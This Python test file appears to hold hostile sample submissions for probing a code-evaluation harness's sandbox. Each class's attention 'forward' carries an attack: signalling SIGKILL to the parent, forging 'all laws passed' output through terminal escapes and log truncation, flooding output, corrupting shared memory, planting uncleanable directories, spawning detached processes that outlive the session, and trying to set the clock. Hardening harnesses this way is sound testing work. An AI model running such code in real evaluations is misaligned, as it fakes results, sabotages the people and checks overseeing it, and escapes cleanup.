"""By somebody who had read SECURITY.md and nothing else (test_read_security.py)."""
import ctypes
import errno
import fcntl
import os
import signal
import struct
import threading
import time

import numpy as np

from cheats import LIBC, PARENT, attention, nonsense


class Signals:
    """Sends no signal: the kernel is to do it, whenever the lab writes into our pipe."""

    def forward(self, q, k, v, is_causal):
        for fd in range(16):
            try:
                fcntl.fcntl(fd, fcntl.F_SETSIG, signal.SIGKILL)
                fcntl.fcntl(fd, fcntl.F_SETOWN, PARENT)
                fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) | os.O_ASYNC)
            except OSError:
                pass
        return attention(q, k, v, is_causal)


class ForgesTheScreen:
    """Wipes the terminal's last lines and writes better ones, by its error output and by its message."""

    def forward(self, q, k, v, is_causal):
        os.write(2, b"\x1b[2K\x1b[1A\x1b]0;owned\x07me: all laws passed\n")
        raise RuntimeError("\x1b[2K\x1b[1A\rall laws passed\u202e\n1 case in 0.1 s: 1 ok")


class RewritesTheLog:
    """If its error output is the file that the lab's goes to, too, what was said before is cut off."""

    def forward(self, q, k, v, is_causal):
        for change in (lambda: os.ftruncate(2, 0), lambda: os.lseek(2, 0, os.SEEK_SET), lambda: os.write(2, b"all laws passed\n")):
            try:
                change()
            except OSError:
                pass
        return nonsense(q)


class Floods:
    """A gigabyte a second of nothing to say."""

    def forward(self, q, k, v, is_causal):
        line, end = b"x" * (1 << 16), time.monotonic() + 0.5
        while time.monotonic() < end:
            os.write(2, line)
        raise RuntimeError("done")


class Shouts:
    """A message that the lab has to hold in memory, to store and to print."""

    def forward(self, q, k, v, is_causal):
        raise RuntimeError("A" * (80 << 20))


class FlipsWords:
    """Writes over all that it shares with the lab, its doorbell first, while the lab uses it."""

    def __init__(self):
        threading.Thread(target=self.flip, daemon=True).start()

    def flip(self):
        random = np.random.default_rng()
        while True:
            for line in open("/proc/self/maps"):
                if "memfd" in line and "rw" in line:
                    begin, end = (int(each, 16) for each in line.split()[0].split("-"))
                    for at in random.integers(0, min(end - begin, 1 << 14) // 4, 64):
                        ctypes.memmove(begin + 4 * int(at), struct.pack("I", int(random.integers(0, 1 << 32))), 4)
            time.sleep(1e-4)

    def forward(self, q, k, v, is_causal):
        return nonsense(q)


class LeavesFolders:
    """What is not to be removed: deeper than descriptors reach, and closed to whoever would list it."""

    made = False

    def forward(self, q, k, v, is_causal):
        if not LeavesFolders.made:
            LeavesFolders.made = True
            here = os.open(os.environ["TMPDIR"], os.O_RDONLY)
            os.mkdir("closed", 0o300, dir_fd=here)
            inside = os.open("closed", os.O_PATH, dir_fd=here)
            os.close(os.open("kept", os.O_CREAT | os.O_WRONLY, dir_fd=inside))
            for _ in range(1500):
                os.mkdir("d", dir_fd=here)
                deeper = os.open("d", os.O_RDONLY, dir_fd=here)
                os.close(here)
                here = deeper
        raise RuntimeError("made")


class Outlives:
    """Has a process that nobody knows by its environment and that hears of no death, and tells where it was started."""

    def forward(self, q, k, v, is_causal):
        if os.fork() == 0:
            LIBC.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG
            LIBC.setsid()
            os.execve("/bin/sleep", ["sleep", os.environ["SLEEPS"]], {})
        time.sleep(600)


class SetsTheClock:
    """Asks for the machine's clock to be moved, by nothing: whoever may do that may move it by more."""

    def forward(self, q, k, v, is_causal):
        change, done = ctypes.create_string_buffer(struct.pack("I", 0x100), 256), []  # ADJ_SETOFFSET
        if LIBC.adjtimex(change) >= 0:
            done.append("adjtimex")
        LIBC.clock_settime(1, (ctypes.c_long * 2)(1, 0))  # a clock that nobody sets; the filter does not let it come to that
        if ctypes.get_errno() != errno.EPERM:
            done.append("clock_settime")
        raise RuntimeError(f"reached: {', '.join(done) or 'nothing'}")
